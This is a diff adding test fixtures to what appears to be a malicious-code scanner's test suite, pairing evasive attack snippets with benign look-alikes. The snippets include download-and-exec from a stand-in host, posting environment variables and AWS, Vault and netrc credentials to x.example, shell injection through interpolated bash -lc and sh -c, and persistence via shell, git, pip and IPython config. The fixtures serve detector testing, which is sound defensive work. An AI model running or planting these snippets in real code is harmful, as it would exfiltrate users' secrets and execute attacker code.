@@ -283,6 +283,133 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
         "hardcoded-secret",
         {PATH: "KEY_ID = 'AKIA' + 'Q3EGUMEN' + '5LXRWT7P'\n"},
     ),
+    # Round 2: sinks handed on as values.
+    "exec-as-class-attribute": (
+        "dynamic-code",
+        {
+            PATH: "import requests\nclass P:\n    go = staticmethod(exec)\n"
+            "def f():\n    P.go(requests.get('https://x.example/p').text)\n"
+        },
+    ),
+    "map-exec": (
+        "dynamic-code",
+        {
+            PATH: "import requests\ndef f():\n    list(map(exec, [requests.get('https://x.example/p').text]))\n"
+        },
+    ),
+    "partial-system": (
+        "dynamic-code",
+        {PATH: "import functools, os\ndef f(c):\n    functools.partial(os.system, c)()\n"},
+    ),
+    "methodcaller-system": (
+        "obfuscation",
+        {PATH: "import operator, os\ndef f(c):\n    operator.methodcaller('system', c)(os)\n"},
+    ),
+    "python-stdin": (
+        "download-and-execute",
+        {
+            PATH: "import subprocess, sys, requests\ndef f():\n"
+            "    subprocess.run([sys.executable, '-'], input=requests.get('https://x.example/p').content)\n"
+        },
+    ),
+    "cprofile-run": (
+        "download-and-execute",
+        {
+            PATH: "import cProfile, requests\ndef f():\n    cProfile.run(requests.get('https://x.example/p').text)\n"
+        },
+    ),
+    "environ-imported-by-name": (
+        "exfiltration",
+        {
+            PATH: "from os import environ as cfg\nimport requests\ndef f():\n"
+            "    requests.post('https://x.example/c', json=dict(cfg))\n"
+        },
+    ),
+    "env-into-curl": (
+        "exfiltration",
+        {
+            PATH: "import json, os, subprocess\ndef f():\n"
+            "    subprocess.run(['curl', '-d', '@-', 'https://x.example/c'], input=json.dumps(dict(os.environ)).encode())\n"
+        },
+    ),
+    "argent-json": (
+        "credential-harvesting",
+        {
+            PATH: "import requests\nfrom pathlib import Path\ndef f():\n"
+            "    requests.post('https://x.example/c', data=(Path.home() / '.argentos' / 'argent.json').read_text())\n"
+        },
+    ),
+    "vault-token": (
+        "credential-harvesting",
+        {
+            PATH: "import os, requests\ndef f():\n"
+            "    requests.post('https://x.example/c', data=open(os.path.expanduser('~/.vault-token')).read())\n"
+        },
+    ),
+    "os-sep-join": (
+        "credential-harvesting",
+        {
+            PATH: "import os, requests\ndef p():\n    return os.sep.join([os.path.expanduser('~'), '.aws', 'credentials'])\n"
+            "def f():\n    with open(p()) as h:\n        requests.post('https://x.example/a', data=h.read())\n"
+        },
+    ),
+    "os-open-through-helper": (
+        "credential-harvesting",
+        {
+            PATH: "import os, requests\ndef slurp(path):\n    fd = os.open(path, os.O_RDONLY)\n    return os.read(fd, 65536)\n"
+            "def f():\n    requests.post('https://x.example/n', data=slurp(os.path.expanduser('~/.netrc')))\n"
+        },
+    ),
+    "bash-lc-from-parameter": (
+        "shell-injection",
+        {
+            PATH: "import subprocess\ndef clone(url, dest):\n    subprocess.run(['bash', '-lc', f'git clone {url} {dest}'])\n"
+        },
+    ),
+    "env-wrapped-sh-c": (
+        "shell-injection",
+        {
+            PATH: "import subprocess\ndef grep(p, path):\n    subprocess.run(['/usr/bin/env', 'sh', '-c', f\"grep '{p}' {path}\"])\n"
+        },
+    ),
+    "fish-conf-d": (
+        "persistence",
+        {
+            PATH: "from pathlib import Path\ndef f():\n    (Path.home() / '.config/fish/conf.d/x.fish').write_text('echo hi')\n"
+        },
+    ),
+    "git-fsmonitor": (
+        "persistence",
+        {
+            PATH: "import subprocess\ndef f():\n    subprocess.run(['git', 'config', '--global', 'core.fsmonitor', '/tmp/x'])\n"
+        },
+    ),
+    "pip-conf-index": (
+        "persistence",
+        {
+            PATH: "from pathlib import Path\ndef f():\n    (Path.home() / '.config/pip/pip.conf').write_text('[global]\\nindex-url = https://x.example/simple\\n')\n"
+        },
+    ),
+    "ipython-startup": (
+        "persistence",
+        {
+            PATH: "from pathlib import Path\ndef f():\n    (Path.home() / '.ipython/profile_default/startup/50-x.py').write_text('import x')\n"
+        },
+    ),
+    "package-data-exec": (
+        "dynamic-code",
+        {
+            PATH: "import tomllib\nfrom pathlib import Path\ndef f():\n"
+            "    hooks = tomllib.loads((Path(__file__).parent / 'hooks.toml').read_text())\n    exec(hooks['init'])\n"
+        },
+    ),
+    "resources-pickle": (
+        "dynamic-code",
+        {
+            PATH: "import pickle, importlib.resources\ndef f():\n"
+            "    return pickle.loads(importlib.resources.files(__package__).joinpath('d.dat').read_bytes())\n"
+        },
+    ),
     # Destinations.
     "decimal-ip": (
         "suspicious-destination",
@@ -349,6 +476,23 @@ BENIGN: dict[str, dict[str, str]] = {
     "url-in-pieces": {
         PATH: "HOST = 'api.example.com'\nBASE = 'https://' + HOST + '/v1/'\n"
         "PARTS = '/'.join(['users', 'me', 'settings'])\n"
+    },
+    "subprocess-run-in-executor": {
+        PATH: "import asyncio, subprocess\nasync def f(cmd):\n"
+        "    return await asyncio.get_running_loop().run_in_executor(None, subprocess.run, ['git', *cmd])\n"
+    },
+    "platform-system-as-key": {
+        PATH: "import platform\nCHOOSE = {'Linux': 1}\ndef f():\n    getter = platform.system\n    return CHOOSE.get(getter())\n"
+    },
+    "bash-lc-literal": {
+        PATH: "import subprocess\ndef f():\n    subprocess.run(['bash', '-lc', 'make build'])\n"
+    },
+    "git-config-user": {
+        PATH: "import subprocess\ndef f(name):\n    subprocess.run(['git', 'config', 'user.name', name])\n"
+    },
+    "own-settings-file": {
+        PATH: "from pathlib import Path\ndef f(text):\n    p = Path.home() / '.config' / 'aos-airtable' / 'settings.toml'\n"
+        "    p.parent.mkdir(parents=True, exist_ok=True)\n    p.write_text(text)\n"
     },
     "sh-c-literal": {
         PATH: "import subprocess\ndef f():\n    subprocess.run(['sh', '-c', 'make build && make test'])\n"
